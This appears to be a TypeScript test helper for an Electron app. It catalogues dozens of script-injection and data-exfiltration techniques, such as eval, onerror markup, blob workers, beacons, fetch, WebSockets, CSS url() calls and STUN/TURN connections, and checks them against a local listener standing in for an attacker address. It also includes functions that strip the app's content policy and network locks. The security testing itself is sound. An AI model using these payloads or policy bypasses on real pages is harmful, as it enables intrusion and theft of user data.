// Attacks of a script that got into the page, how each is tried, and the app without what stands in their way.
import { createSocket } from 'node:dgram'
import { createServer, type AddressInfo } from 'node:net'
import type { Page } from '@playwright/test'
import { expect } from '../rollcall/story'
import type { Rollcall } from '../rollcall/rollcall'

/** Each would call RAN or reach ADDRESS, which stand for a function and an address of its own. */
export const injections: Readonly<Record<string, string>> = {
  'an inline script': "add('script', { textContent: 'RAN()' })",
  'an inline module': "add('script', { type: 'module', textContent: 'RAN()' })",
  'markup with a handler': "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=RAN()>')",
  'a handler that is clicked': "document.body.insertAdjacentHTML('beforeend', '<b id=b onclick=RAN()>'), b.click()",
  eval: "eval('RAN()')",
  'a function from text': "new Function('RAN()')()",
  'a timer with text': "setTimeout('RAN()')",
  'a script from elsewhere': `add('script', { src: 'http://ADDRESS/x.js' })`,
  'a module from elsewhere': `import('http://ADDRESS/x.mjs')`,
  'a script in its address': "add('script', { src: 'data:text/javascript,RAN()' })",
  'a script from memory': "add('script', { src: blob('RAN()') })",
  'a worker from memory': "new Worker(blob('postMessage(1)')).onmessage = RAN",
  'a shared worker':
    "new SharedWorker(blob('onconnect = ({ ports }) => ports[0].postMessage(1)')).port.onmessage = RAN",
  'a worklet': "new AudioContext().audioWorklet.addModule(blob('1')).then(RAN)",
  WebAssembly: 'WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(RAN)',
  'a picture from elsewhere': `new Image().src = 'http://ADDRESS/x.png'`,
  'a beacon': `navigator.sendBeacon('http://ADDRESS', 'x')`,
  fetch: `fetch('http://ADDRESS', { method: 'POST', mode: 'no-cors', body: 'x' })`,
  'fetch that outlives the page': `fetch('http://ADDRESS', { keepalive: true, mode: 'no-cors' })`,
  XMLHttpRequest: `(() => { const r = new XMLHttpRequest(); r.open('GET', 'http://ADDRESS'); r.send() })()`,
  'a web socket': `new WebSocket('ws://ADDRESS')`,
  'an event source': `new EventSource('http://ADDRESS')`,
  'a base address': `add('base', { href: 'http://ADDRESS/' }), new Image().src = 'x.png'`,
  'a form': `add('form', { action: 'http://ADDRESS', method: 'post' }).submit()`,
  'a form in a new window': `add('form', { action: 'http://ADDRESS', target: '_blank' }).submit()`,
  'a frame with a script': "add('iframe', { srcdoc: '<script>parent.RAN()</script>' })",
  'a frame from elsewhere': `add('iframe', { src: 'http://ADDRESS' })`,
  'an object': `add('object', { data: 'http://ADDRESS/x.html' })`,
  'a style sheet from elsewhere': `add('link', { rel: 'stylesheet', href: 'http://ADDRESS/x.css' })`,
  'an inline style sheet': `add('style', { textContent: "body { background: url(http://ADDRESS/a) }" })`,
  'an inline style': `document.body.insertAdjacentHTML('beforeend', '<p style="background:url(http://ADDRESS/b)">x')`,
  'a style by script': `document.body.style.background = "url(http://ADDRESS/c)"`,
  'a style sheet by script': `(() => { const s = new CSSStyleSheet(); s.replaceSync("body { background: url(http://ADDRESS/d) }"); document.adoptedStyleSheets = [s] })()`,
  'a font': `new FontFace('x', "url(http://ADDRESS/x.woff2)").load()`,
  'a video': `add('video', { src: 'http://ADDRESS/x.mp4', autoplay: true })`,
  'something fetched ahead': `add('link', { rel: 'prefetch', href: 'http://ADDRESS/y' }), add('link', { rel: 'preload', as: 'script', href: 'http://ADDRESS/z' })`,
  'a connection ahead': `add('link', { rel: 'preconnect', href: 'http://ADDRESS' })`,
  'a page ahead': `add('script', { type: 'speculationrules', textContent: '{"prefetch":[{"source":"list","urls":["https://ADDRESS/p"]}]}' })`,
  'a ping': `add('a', { href: '#', ping: 'http://ADDRESS' }).click()`,
  'a manifest': `add('link', { rel: 'manifest', href: 'http://ADDRESS/m' })`,
  'a call over STUN': `connect('stun:ADDRESS')`,
  'a call over TURN': `connect('turn:ADDRESS?transport=tcp')`
}

/** Those that nothing comes of in Electron, whatever its app does or leaves undone. */
const ignored: Readonly<Record<string, string>> = {
  'a connection ahead': 'Electron tells the app of the wish, and leaves it to the app to connect',
  'a manifest': 'a browser fetches it to install a page, which Electron never does'
}

/** Those that need no network. */
export const running: readonly string[] = Object.keys(injections).filter(
  (what) => !injections[what]?.includes('ADDRESS')
)

/** Tries all, one after the other, in one page; gives the names of those that ran or reached their address. */
export async function succeedTogether({ page }: Rollcall): Promise<readonly string[]> {
  const tried = []
  for (const what of Object.keys(injections)) {
    const ears = await listen()
    await inject(page, what, ears.address)
    tried.push({ what, ears })
  }
  const ran = await namesOfRun(page)
  for (const { ears } of tried) ears.close()
  return tried.flatMap(({ what, ears }) => (ears.heard() > 0 || ran.includes(what) ? [what] : []))
}

/** Tries each that Electron does not ignore in a page of its own, until it ran or reached its address; gives their number. */
export async function succeedApart(rollcall: Rollcall): Promise<number> {
  const names = Object.keys(injections).filter((what) => !(what in ignored))
  for (const what of names)
    await expect(async () => {
      // A page that an earlier one leaves may take the next with it.
      await openAfresh(rollcall)
      const ears = await listen()
      try {
        await inject(rollcall.page, what, ears.address).catch(() => undefined)
        const isHit = async () => ears.heard() > 0 || (await namesOfRun(rollcall.page)).includes(what)
        await expect.poll(isHit, { timeout: 3_000, intervals: [20] }).toBe(true)
      } finally {
        ears.close()
      }
    }, what).toPass({ timeout: 20_000 })
  return names.length
}

/** From now on every address of the app is an empty page without a policy. */
export async function dropPolicy(rollcall: Rollcall): Promise<void> {
  await rollcall.app.evaluate(({ protocol }) => {
    protocol.unhandle('app')
    protocol.handle('app', () => new Response('<!doctype html><p>', { headers: { 'Content-Type': 'text/html' } }))
  })
  await openAfresh(rollcall)
}

/** From now on the page may go anywhere, open windows and use the network. */
export async function unlock({ app }: Rollcall): Promise<void> {
  await app.evaluate(async ({ app, BrowserWindow, session }) => {
    app.removeAllListeners('web-contents-created')
    session.defaultSession.webRequest.onBeforeRequest(null)
    await session.defaultSession.setProxy({ mode: 'direct' })
    const contents = BrowserWindow.getAllWindows()[0]?.webContents
    for (const event of ['will-navigate', 'will-frame-navigate'] as const) contents?.removeAllListeners(event)
    contents?.setWindowOpenHandler(() => ({ action: 'allow' }))
    contents?.setWebRTCIPHandlingPolicy('default')
  })
}

async function openAfresh({ app, page }: Rollcall): Promise<void> {
  await app.evaluate(({ BrowserWindow }) => {
    const [, ...opened] = BrowserWindow.getAllWindows().toSorted((a, b) => a.id - b.id)
    for (const window of opened) window.destroy()
  })
  await page.goto('app://rollcall/index.html')
}

async function inject(page: Page, what: string, address: string): Promise<void> {
  // What an attack before this one starts late is not taken for this one's.
  const ran = `ran${Object.keys(injections).indexOf(what)}`
  const code = injections[what]?.replaceAll('ADDRESS', address).replaceAll('RAN', ran)
  await page.evaluate(
    `(async () => {
      window.${ran} = () => { (window.haveRun ??= []).push(${JSON.stringify(what)}) }
      const add = (name, properties) => document.body.appendChild(Object.assign(document.createElement(name), properties))
      const blob = (code) => URL.createObjectURL(new Blob([code], { type: 'text/javascript' }))
      const connect = async (urls) => {
        const call = new RTCPeerConnection({ iceServers: [{ urls, username: 'a', credential: 'b' }] })
        call.createDataChannel('x')
        await call.setLocalDescription(await call.createOffer())
        await Promise.race([
          new Promise((done) => (call.onicegatheringstatechange = () => call.iceGatheringState === 'complete' && done())),
          new Promise((done) => setTimeout(done, 2_000))
        ])
      }
      // While it is evaluated for a test, a page may evaluate as well: not in its next turn.
      await new Promise((done) => setTimeout(done))
      try { await (${code}) } catch {}
      await new Promise((done) => requestAnimationFrame(() => setTimeout(done)))
    })()`
  )
}

function namesOfRun(page: Page): Promise<readonly string[]> {
  return page.evaluate(() => (window as { haveRun?: readonly string[] }).haveRun ?? [])
}

interface Ears {
  readonly address: string
  readonly heard: () => number
  readonly close: () => void
}

/** Hears any connection and any datagram on one port of the loopback interface. */
async function listen(): Promise<Ears> {
  let heard = 0
  const server = createServer((socket) => {
    heard++
    // An answer that leaves a page where it is.
    socket.once('data', () => socket.end('HTTP/1.1 204 No Content\r\n\r\n')).on('error', () => undefined)
  })
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  const { port } = server.address() as AddressInfo
  const datagrams = createSocket('udp4').on('message', () => heard++)
  await new Promise<void>((done) => datagrams.bind(port, '127.0.0.1', done))
  const close = () => {
    server.close()
    datagrams.close()
  }
  return { address: `127.0.0.1:${port}`, heard: () => heard, close }
}
